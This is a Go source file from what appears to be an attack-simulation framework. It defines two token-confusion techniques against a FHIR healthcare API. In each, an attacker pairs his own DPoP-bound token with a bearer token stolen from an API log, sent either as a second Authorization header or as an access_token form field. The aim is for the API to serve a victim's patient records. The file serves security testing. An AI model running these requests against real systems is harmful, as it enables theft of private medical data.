package attacker

import (
	"context"
	"net/url"

	"thiefbox/sim/event"
	"thiefbox/sim/fapi"
)

var _ = register("T-14", Technique{
	Title: "Two credentials in one request",
	Story: "The thief has an app and a token of his own, quite legally. He sends his own credential, with its proof, and behind it " +
		"a second one: a token from a log. If a gateway checks the first and the API uses the last, the API serves the victim's data.",
	Reads: []string{"RFC 9449 s7.1", "RFC 6750 s2"},
	Needs: []event.Vantage{event.APILog},
	Has:   []event.Asset{event.OwnClient},
	Run: func(ctx context.Context, g Ground) error {
		l, err := stolenRequest(g, event.APILog, "/Patient/")
		if err != nil {
			return err
		}
		a, own, err := ownToken(ctx, g)
		if err != nil {
			return err
		}
		proof, err := a.proof("GET", l.URL, own.AccessToken).Sign(a.key)
		if err != nil {
			return err
		}
		r := withToken(get(ctx, l.URL), own.TokenType, own.AccessToken, proof)
		r.Header.Add("Authorization", "Bearer "+l.token)
		_, err = send(g, r)
		return err
	},
})

var _ = register("T-14/form", Technique{
	Variant: "in-the-form",
	Title:   "A second credential in the form of a search",
	Story: "As with two credentials in one request, but the second stands where RFC 6750 once let it: in the form of a search. The API that looks " +
		"into the form for parameters finds a token there, and believes the last one it has seen.",
	Reads:    []string{"RFC 6750 s2, s2.2", "RFC 9449 s7.1"},
	Evidence: "A form with access_token in it, beside a header that names another token.",
	Needs:    []event.Vantage{event.APILog},
	Has:      []event.Asset{event.OwnClient},
	Run: func(ctx context.Context, g Ground) error {
		l, err := stolenRequest(g, event.APILog, "/Patient/")
		if err != nil {
			return err
		}
		a, own, err := ownToken(ctx, g)
		if err != nil {
			return err
		}
		search := g.Target().FHIRBase + "/Patient/_search"
		proof, err := a.proof("POST", search, own.AccessToken).Sign(a.key)
		if err != nil {
			return err
		}
		// The one thing too many is access_token.
		r := post(ctx, search, url.Values{"_id": {otherThan(g, l.URL)}, "access_token": {l.token}})
		_, err = send(g, withToken(r, own.TokenType, own.AccessToken, proof))
		return err
	},
})

// ownToken signs the thief in at his own app, for the FHIR API.
func ownToken(ctx context.Context, g Ground) (*app, fapi.TokenResponse, error) {
	a, err := ownApp(ctx, g)
	if err != nil {
		return nil, fapi.TokenResponse{}, err
	}
	t, err := a.signIn(ctx, "openid user/*.rs", g.Target().FHIRBase)
	return a, t, err
}
